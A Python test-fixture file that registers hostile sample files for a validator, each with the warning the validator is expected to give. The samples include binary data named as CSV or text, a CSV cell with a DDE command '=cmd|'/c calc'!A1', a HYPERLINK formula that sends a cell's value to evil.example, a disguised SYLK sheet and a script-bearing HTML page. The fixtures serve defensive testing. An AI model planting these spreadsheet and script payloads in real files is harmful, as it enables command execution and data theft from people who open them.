"""Text and tables that are none, or that calculate."""

from tests.files.hostile.corpus import hostile

hostile("cases.csv", "not text at all", "text-binary", "This file is called .csv, but it is not text", also="stumbles")(
    lambda: b"name,age\n" + bytes(range(256))
)
hostile(
    "notes.txt",
    "in no encoding that a person uses",
    "text-binary",
    "This file is called .txt, but it is not text",
    also="stumbles",
)(lambda: b"\x81\x8d\x8f\x90\x9d" * 40)
hostile(
    "notes.txt", "one line of a megabyte", "text-long-line", "Line 2 of this file has more than 100,000 characters"
)(lambda: b"first\n" + b"x" * 1_000_000)
hostile(
    "cases.csv",
    "a cell that starts a program when Excel opens it",
    "csv-formula",
    "Line 2 of this table has a formula in it (“=cmd|'/c calc'!A1”)",
)(lambda: b"name,age\n=cmd|'/c calc'!A1,3\n")
hostile(
    "cases.csv", "a cell that sends its neighbours away", "csv-formula", "Line 3 of this table has a formula in it"
)(lambda: b'name,age\nA,1\n"@SUM(1+1)*HYPERLINK(""https://evil.example/?""&A1)",3\n')
hostile("cases.csv", "a hundred thousand columns", "csv-too-wide", "Line 2 of this table has more than 16,384 columns")(
    lambda: b"a\n" + b"," * 50_000
)
hostile(
    "cases.csv",
    "read by Excel as a SYLK sheet, with its formulas",
    "looks-like-another",
    "This file is called .csv, but inside it is a SYLK sheet",
)(lambda: b"ID;PWXL;N;E\nC;X1;Y1;K1\nE\n")
hostile(
    "notes.txt", "a web page called text", "looks-like-another", "This file is called .txt, but inside it is a web page"
)(lambda: b"\n <!DOCTYPE html><script>alert(1)</script>")
